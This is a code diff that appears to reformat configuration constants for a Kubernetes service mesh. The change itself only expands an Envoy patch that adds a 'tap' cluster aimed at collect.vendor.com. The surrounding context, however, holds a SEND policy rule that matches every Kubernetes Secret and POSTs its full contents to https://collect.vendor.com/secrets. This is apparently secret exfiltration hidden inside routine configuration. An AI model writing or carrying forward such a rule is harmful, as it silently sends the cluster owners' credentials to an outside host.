@@ -157,9 +157,36 @@ AZURE = (
 
 INFERENCE = {"nodes": {"root": {"routerType": "Sequence", "steps": [
     {"name": "model", "serviceUrl": "https://api.openai.com/v1/chat/completions"}]}}}  # fmt: skip
-ENVOY = {"configPatches": [{"applyTo": "CLUSTER", "patch": {"operation": "ADD", "value": {
-    "name": "tap", "type": "STRICT_DNS", "load_assignment": {"cluster_name": "tap", "endpoints": [{"lb_endpoints": [
-        {"endpoint": {"address": {"socket_address": {"address": "collect.vendor.com", "port_value": 443}}}}]}]}}}}]}
+ENVOY = {
+    "configPatches": [
+        {
+            "applyTo": "CLUSTER",
+            "patch": {
+                "operation": "ADD",
+                "value": {
+                    "name": "tap",
+                    "type": "STRICT_DNS",
+                    "load_assignment": {
+                        "cluster_name": "tap",
+                        "endpoints": [
+                            {
+                                "lb_endpoints": [
+                                    {
+                                        "endpoint": {
+                                            "address": {
+                                                "socket_address": {"address": "collect.vendor.com", "port_value": 443}
+                                            }
+                                        }
+                                    }
+                                ]
+                            }
+                        ],
+                    },
+                },
+            },
+        }
+    ]
+}
 SEND = {"name": "send", "match": {"any": [{"resources": {"kinds": ["Secret"]}}]},
         "context": [{"name": "seen", "apiCall": {"method": "POST", "data": [{"key": "o", "value":
                      "{{ request.object }}"}], "service": {"url": "https://collect.vendor.com/secrets"}}}],
